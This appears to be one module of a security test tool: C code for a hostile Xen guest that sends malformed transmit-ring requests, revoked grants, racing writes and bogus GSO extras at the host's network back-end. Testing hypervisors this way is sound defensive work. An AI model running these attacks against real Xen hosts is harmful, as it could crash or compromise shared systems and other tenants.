/* SPDX-License-Identifier: BSD-3-Clause */
/* Attacks through the transmit ring. */
#include "hostile.h"

#define RING_SLOTS 256u

static void push(struct victim *v)
{
    wmb();
    v->rings.tx.sring->req_prod = v->rings.tx.req_prod_pvt;
    evtchn_notify(v->dev.port);
}

static struct netif_tx_request *slot(struct victim *v)
{
    return RING_GET_REQUEST(&v->rings.tx, v->rings.tx.req_prod_pvt++);
}

static uint32_t good_ref(const struct victim *v)
{
    return (uint32_t)v->rings.tx_buffers[0].ref;
}

/* A producer index that no number of requests explains. */
static void jump(struct victim *v, uint32_t by)
{
    connect(v);
    v->rings.tx.req_prod_pvt += by;
    push(v);
    nap();
}

static void txjump(struct victim *v)
{
    jump(v, RING_SLOTS + 1);
}

static void txback(struct victim *v)
{
    jump(v, (uint32_t)-10);
}

static void txhuge(struct victim *v)
{
    jump(v, 0x7fffffff);
}

static void txsizes(struct victim *v)
{
    static const uint16_t sizes[] = {0, 1, 13, 14, 60, 4095, 4096, 4097, 32768, 65535};
    static const uint16_t offsets[] = {0, 1, 4082, 4095, 4096, 8192, 65535};

    connect(v);
    for (size_t s = 0; s < ARRAY_SIZE(sizes); s++)
        for (size_t o = 0; o < ARRAY_SIZE(offsets); o++) {
            *slot(v) = (struct netif_tx_request){
                .gref = good_ref(v), .size = sizes[s], .offset = offsets[o], .id = 0xffff};
            push(v);
            nap();
        }
}

static void txnoise(struct victim *v)
{
    connect(v);
    for (unsigned i = 0; i < 1000; i++) {
        struct netif_tx_request *r = slot(v);

        scribble(r, sizeof(*r));
        if (i % 2)
            r->gref = good_ref(v);
        if (i % 100 == 99) {
            push(v);
            nap();
        }
    }
}

/* One packet that never ends. */
static void slots300(struct victim *v)
{
    connect(v);
    for (unsigned i = 0; i < 300; i++) {
        *slot(v) = (struct netif_tx_request){
            .gref = good_ref(v), .size = 100, .id = (uint16_t)i, .flags = NETTXF_more_data};
        if (i % 50 == 49) {
            push(v);
            nap();
        }
    }
}

/* The whole in the first slot is less than its parts. */
static void txsum(struct victim *v)
{
    connect(v);
    *slot(v) =
        (struct netif_tx_request){.gref = good_ref(v), .size = 100, .flags = NETTXF_more_data};
    *slot(v) = (struct netif_tx_request){.gref = good_ref(v), .size = 2000};
    push(v);
    nap();
}

static void grefs(struct victim *v)
{
    static const uint32_t refs[] = {0, 1, 7, 300, 511, 512, 65535, 1000000, 0xffffffff};
    int revoked;

    connect(v);
    revoked = grant_access(v->dev.entry.back_end, v->rings.tx_buffers[1].page, true);
    grant_end(revoked);
    for (size_t i = 0; i <= ARRAY_SIZE(refs); i++) {
        *slot(v) = (struct netif_tx_request){
            .gref = i < ARRAY_SIZE(refs) ? refs[i] : (uint32_t)revoked, .size = 60};
        push(v);
        nap();
    }
}

static void sameref(struct victim *v)
{
    connect(v);
    for (unsigned i = 0; i < RING_SLOTS; i++)
        *slot(v) = (struct netif_tx_request){.gref = good_ref(v), .size = 60, .id = 1};
    push(v);
    nap();
}

/* Takes the grant back while the back-end is at work. */
static void revoke(struct victim *v)
{
    connect(v);
    for (unsigned i = 0; i < 200; i++) {
        *slot(v) = (struct netif_tx_request){.gref = good_ref(v), .size = 1514};
        push(v);
        if (!grant_end(v->rings.tx_buffers[0].ref))
            v->rings.tx_buffers[0].ref =
                grant_access(v->dev.entry.back_end, v->rings.tx_buffers[0].page, true);
        if (i % 50 == 49)
            nap();
    }
}

/* A packet with one extra slot. */
static void extra(struct victim *v, struct netif_extra_info info)
{
    *slot(v) = (struct netif_tx_request){
        .gref = good_ref(v), .size = 1000, .flags = NETTXF_extra_info | NETTXF_csum_blank};
    *(struct netif_extra_info *)slot(v) = info;
    push(v);
    nap();
}

static void gso(struct victim *v)
{
    static const uint16_t sizes[] = {0, 1, 1460, 65535};

    for (unsigned type = 0; type < 6; type++)
        for (size_t i = 0; i < ARRAY_SIZE(sizes); i++) {
            connect(v);
            extra(v, (struct netif_extra_info){
                         .type = XEN_NETIF_EXTRA_TYPE_GSO,
                         .u.gso = {.size = sizes[i], .type = (uint8_t)type, .features = 0xffff}});
            disconnect(v);
        }
}

static void extras(struct victim *v)
{
    connect(v);
    for (unsigned type = 0; type < 256; type += 5)
        extra(v, (struct netif_extra_info){.type = (uint8_t)type, .flags = 0xfe});
}

static void extrachain(struct victim *v)
{
    connect(v);
    *slot(v) = (struct netif_tx_request){
        .gref = good_ref(v), .size = 100, .flags = NETTXF_extra_info | NETTXF_more_data};
    for (unsigned i = 0; i < 200; i++)
        *(struct netif_extra_info *)slot(v) = (struct netif_extra_info){
            .type = XEN_NETIF_EXTRA_TYPE_GSO, .flags = XEN_NETIF_EXTRA_FLAG_MORE};
    push(v);
    nap();
}

/* Headers that lie, with the checksum left to the back-end. */
static void csum(struct victim *v)
{
    uint8_t *frame;

    connect(v);
    frame = v->rings.tx_buffers[0].page;
    for (unsigned i = 0; i < 500; i++) {
        scribble(frame, 128);
        frame[12] = 8; /* IPv4 */
        frame[13] = 0;
        frame[14] = (uint8_t)(0x40 | noise() % 16);
        frame[23] = i % 2 ? 6 : 17;
        *slot(v) = (struct netif_tx_request){.gref = good_ref(v),
                                             .size = (uint16_t)(14 + noise() % 100),
                                             .flags = NETTXF_csum_blank};
        push(v);
        if (i % 20 == 0)
            nap();
    }
}

/* Requests that change between a check and a use. */
static void race(struct victim *v)
{
    struct netif_tx_request *r;

    connect(v);
    for (unsigned i = 0; i < 300; i++) {
        r = slot(v);
        *r = (struct netif_tx_request){.gref = good_ref(v), .size = 60};
        push(v);
        for (unsigned j = 0; j < 500; j++) {
            WRITE_ONCE(r->size, (uint16_t)(j % 2 ? 60 : 65535));
            WRITE_ONCE(r->offset, (uint16_t)(j % 3 ? 0 : 4095));
            WRITE_ONCE(r->flags, (uint16_t)(j % 5 ? 0 : 0xffff));
        }
        if (i % 50 == 49)
            nap();
    }
}

/* The other end's index and events, which are ours to write too. */
static void txrsp(struct victim *v)
{
    connect(v);
    for (unsigned i = 0; i < 300; i++) {
        v->rings.tx.sring->rsp_prod = noise();
        v->rings.tx.sring->rsp_event = noise();
        v->rings.tx.sring->req_event = noise();
        *slot(v) = (struct netif_tx_request){.gref = good_ref(v), .size = 60};
        push(v);
        if (i % 50 == 49)
            nap();
    }
}

const struct attack tx_attacks[] = {
    {"txjump", txjump},         {"txback", txback},   {"txhuge", txhuge},
    {"txsizes", txsizes},       {"txnoise", txnoise}, {"slots300", slots300},
    {"txsum", txsum},           {"grefs", grefs},     {"sameref", sameref},
    {"revoke", revoke},         {"gso", gso},         {"extras", extras},
    {"extrachain", extrachain}, {"csum", csum},       {"race", race},
    {"txrsp", txrsp},           {NULL, NULL},
};
